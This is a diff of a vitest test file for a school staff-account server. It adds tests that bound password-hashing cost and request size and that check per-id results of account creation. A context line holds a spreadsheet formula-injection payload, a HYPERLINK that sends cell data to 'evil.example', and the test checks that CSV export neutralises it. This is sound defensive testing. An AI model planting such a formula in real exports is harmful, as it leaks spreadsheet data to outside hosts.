@@ -7,7 +7,7 @@
  */
 import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { formatHlc } from '../../src/domain';
+import { formatHlc, STAFF_ACCOUNTS_PER_REQUEST } from '../../src/domain';
 import type { Mutation, PushResponse, StaffAccountResult } from '../../src/domain';
 import { createApp } from '../../server/app';
 import type { Db } from '../../server/db/connection';
@@ -116,6 +116,55 @@ describe.each(testEngines())('a member of staff at the server edges on $name', (
       // Every cell of the planted name starts with a quote, so it opens as text.
       expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
       expect(line).not.toMatch(/(^|,)"?=/);
+    });
+  });
+
+  describe('creating sign-in accounts', () => {
+    it('costs no password hash for ids that get no account, and bounds one request', async () => {
+      const senco = await signIn('senco@demo.school');
+      const unknown = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST }, () => randomUUID());
+      const startedCpu = process.cpuUsage();
+      const started = performance.now();
+      const results = await createAccounts(senco, unknown);
+      const elapsedMs = performance.now() - started;
+      const cpu = process.cpuUsage(startedCpu);
+      expect(results.map((r) => r.status)).toEqual(unknown.map(() => 'not_found'));
+      // A password hash is about 35 ms of CPU: 50 of them would be well
+      // over a second; 50 lookups are a few milliseconds each.
+      expect(elapsedMs).toBeLessThan(1_000);
+      expect((cpu.user + cpu.system) / 1_000).toBeLessThan(1_000);
+
+      // More ids than one request may create accounts for: refused before any work.
+      const tooMany = Array.from({ length: STAFF_ACCOUNTS_PER_REQUEST + 1 }, () => randomUUID());
+      const refused = await post('/api/v1/staff-accounts', { staffIds: tooMany }, senco.token);
+      expect(refused.status).toBe(400);
+    });
+
+    it('still answers each id in order, creating only the new ones', async () => {
+      const senco = await signIn('senco@demo.school');
+      const fresh = randomUUID();
+      const twin = randomUUID();
+      await push(senco, [
+        {
+          entity: 'staff',
+          entityId: fresh,
+          data: { name: 'Rae Fresh', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
+        },
+        {
+          entity: 'staff',
+          entityId: twin,
+          data: { name: 'Rae Twin', email: 'rae.fresh@demo.school', role: 'ta', isActive: true },
+        },
+      ]);
+      const missing = randomUUID();
+      const results = await createAccounts(senco, [missing, fresh, twin, fresh]);
+      expect(results.map((r) => [r.staffId, r.status])).toEqual([
+        [missing, 'not_found'],
+        [fresh, 'created'],
+        [twin, 'email_taken'],
+      ]);
+      const again = await createAccounts(senco, [fresh]);
+      expect(again).toEqual([expect.objectContaining({ staffId: fresh, status: 'exists' })]);
     });
   });
 });
